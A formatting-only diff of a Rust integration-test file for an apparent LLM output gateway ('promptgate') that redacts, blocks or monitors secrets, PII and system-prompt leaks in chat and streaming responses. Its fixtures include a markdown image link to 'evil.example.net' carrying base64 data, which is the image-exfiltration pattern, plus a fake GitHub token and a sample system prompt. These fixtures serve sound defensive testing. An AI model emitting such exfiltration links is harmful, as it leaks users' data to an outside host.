@@ -13,8 +13,10 @@ const CANARY: &str = "PG-CANARY-7f3a9c21";
 /// A GitHub token of the right shape (36 alphanumerics after `ghp_`).
 const TOKEN: &str = "ghp_Xq7Lm2Vb9RtK4pZs8WcN1yHd6Ju3Ef5GaQ0o";
 const EMAIL: &str = "jane.doe@acme-corp.com";
-const LINK: &str = "![chart](https://evil.example.net/c.png?d=aGVsbG8gd29ybGQgdGhpcyBpcyBzZWNyZXQgZGF0YQ)";
-const SYSTEM: &str = "You are the support assistant of Acme. Always answer politely, never mention \
+const LINK: &str =
+    "![chart](https://evil.example.net/c.png?d=aGVsbG8gd29ybGQgdGhpcyBpcyBzZWNyZXQgZGF0YQ)";
+const SYSTEM: &str =
+    "You are the support assistant of Acme. Always answer politely, never mention \
     competitors, and escalate refund requests above 500 dollars to a human agent.";
 const RECITAL: &str = "always answer politely, never mention competitors, and escalate refund \
     requests above 500 dollars to a human agent";
@@ -118,8 +120,12 @@ fn text_of(r: &Response) -> String {
 /// The mock's answer with the per-request parts (ids, timestamps) made equal.
 fn normalised(body: &[u8]) -> String {
     let s = String::from_utf8_lossy(body);
-    let s = Regex::new(r#""id":"[^"]*""#).unwrap().replace_all(&s, "\"id\":\"x\"");
-    let s = Regex::new(r#""created":\d+"#).unwrap().replace_all(&s, "\"created\":0");
+    let s = Regex::new(r#""id":"[^"]*""#)
+        .unwrap()
+        .replace_all(&s, "\"id\":\"x\"");
+    let s = Regex::new(r#""created":\d+"#)
+        .unwrap()
+        .replace_all(&s, "\"created\":0");
     s.into_owned()
 }
 
@@ -155,7 +161,13 @@ fn metrics(h: &Harness) -> String {
 
 fn metric(text: &str, series: &str) -> f64 {
     text.lines()
-        .find_map(|l| l.strip_prefix(series)?.strip_prefix(' ')?.trim().parse().ok())
+        .find_map(|l| {
+            l.strip_prefix(series)?
+                .strip_prefix(' ')?
+                .trim()
+                .parse()
+                .ok()
+        })
         .unwrap_or(0.0)
 }
 
@@ -206,12 +218,19 @@ fn benign_answers_pass_byte_for_byte() {
     std::thread::sleep(std::time::Duration::from_millis(5500));
     let m = metrics(&h);
     assert_eq!(
-        metric(&m, "promptgate_response_decisions_total{decision=\"allowed\"}"),
+        metric(
+            &m,
+            "promptgate_response_decisions_total{decision=\"allowed\"}"
+        ),
         n as f64,
         "{m}"
     );
     // Streams record the time to their first event (6 streams).
-    assert_eq!(metric(&m, "promptgate_time_to_first_token_ms_count{}"), 6.0, "{m}");
+    assert_eq!(
+        metric(&m, "promptgate_time_to_first_token_ms_count{}"),
+        6.0,
+        "{m}"
+    );
 }
 
 #[test]
@@ -238,7 +257,11 @@ fn every_detector_redacts_in_json_and_sse() {
                 assert_eq!(e["response"]["decision"], "redacted", "{e}");
                 let f = &e["response"]["findings"][0];
                 assert_eq!(
-                    (f["detector"].as_str(), f["kind"].as_str(), f["action"].as_str()),
+                    (
+                        f["detector"].as_str(),
+                        f["kind"].as_str(),
+                        f["action"].as_str()
+                    ),
                     (Some(detector), Some(kind), Some("redact")),
                     "{e}"
                 );
@@ -263,7 +286,10 @@ fn every_detector_blocks_in_json_and_sse() {
                 let r = ask(&h, api, stream, &answer_with(sensitive), &[]);
                 n += 1;
                 let body = r.text();
-                assert!(!body.contains(sensitive), "{detector} {api} {stream}: {body}");
+                assert!(
+                    !body.contains(sensitive),
+                    "{detector} {api} {stream}: {body}"
+                );
                 if stream {
                     assert_eq!(r.status, 200);
                     assert!(body.contains("response_blocked"), "{body}");
@@ -274,7 +300,8 @@ fn every_detector_blocks_in_json_and_sse() {
                     assert_eq!(r.status, 403, "{detector} {api}: {body}");
                     assert_eq!(r.json()["error"]["code"], "response_blocked", "{body}");
                     assert_eq!(
-                        r.header("content-length").map(|l| l.parse::<usize>().unwrap()),
+                        r.header("content-length")
+                            .map(|l| l.parse::<usize>().unwrap()),
                         Some(r.body.len())
                     );
                 }
@@ -286,7 +313,10 @@ fn every_detector_blocks_in_json_and_sse() {
     }
     let m = metrics(&h);
     assert_eq!(
-        metric(&m, "promptgate_response_decisions_total{decision=\"blocked\"}"),
+        metric(
+            &m,
+            "promptgate_response_decisions_total{decision=\"blocked\"}"
+        ),
         n as f64
     );
 }
@@ -323,7 +353,11 @@ fn every_detector_monitors_without_changing_a_byte() {
                 assert_eq!(e["response"]["decision"], "monitored", "{e}");
                 let f = &e["response"]["findings"][0];
                 assert_eq!(
-                    (f["detector"].as_str(), f["kind"].as_str(), f["action"].as_str()),
+                    (
+                        f["detector"].as_str(),
+                        f["kind"].as_str(),
+                        f["action"].as_str()
+                    ),
                     (Some(detector), Some(kind), Some("monitor"))
                 );
             }
@@ -348,7 +382,11 @@ fn a_secret_split_at_every_point_across_events() {
     let answer = answer_with(TOKEN);
     let start = PREFIX.len();
     for cut in start..=start + TOKEN.len() {
-        for points in [format!("{cut}"), format!("{},{}", cut, cut + 1), format!("3,{cut}")] {
+        for points in [
+            format!("{cut}"),
+            format!("{},{}", cut, cut + 1),
+            format!("3,{cut}"),
+        ] {
             for api in ["chat", "anthropic"] {
                 let r = ask(&h, api, true, &answer, &[("x-mock-split-at", &points)]);
                 assert_eq!(r.status, 200);
@@ -363,7 +401,13 @@ fn a_secret_split_at_every_point_across_events() {
     }
     // And in pieces of every size.
     for size in 1..=12 {
-        let r = ask(&h, "chat", true, &answer, &[("x-mock-chunk-bytes", &size.to_string())]);
+        let r = ask(
+            &h,
+            "chat",
+            true,
+            &answer,
+            &[("x-mock-chunk-bytes", &size.to_string())],
+        );
         assert_eq!(
             text_of(&r),
             format!("{PREFIX}[REDACTED:github_token]{SUFFIX}"),
@@ -398,10 +442,20 @@ fn request_pii_is_masked_for_the_model_and_restored_in_the_answer() {
         let sent = last["body"].as_str().unwrap();
         assert!(!sent.contains(EMAIL), "the model saw the address: {sent}");
         assert!(sent.contains("[EMAIL_1]"), "{sent}");
-        assert_eq!(text_of(&r), format!("I will write to {EMAIL} today."), "stream={stream}");
+        assert_eq!(
+            text_of(&r),
+            format!("I will write to {EMAIL} today."),
+            "stream={stream}"
+        );
     }
     let e = last_event(&h, 2);
-    assert!(e["rewrites"].as_array().unwrap().contains(&json!("pii_masked")), "{e}");
+    assert!(
+        e["rewrites"]
+            .as_array()
+            .unwrap()
+            .contains(&json!("pii_masked")),
+        "{e}"
+    );
     assert_eq!(e["response"]["masked_values"], 1, "{e}");
     assert_eq!(e["response"]["decision"], "restored", "{e}");
 }
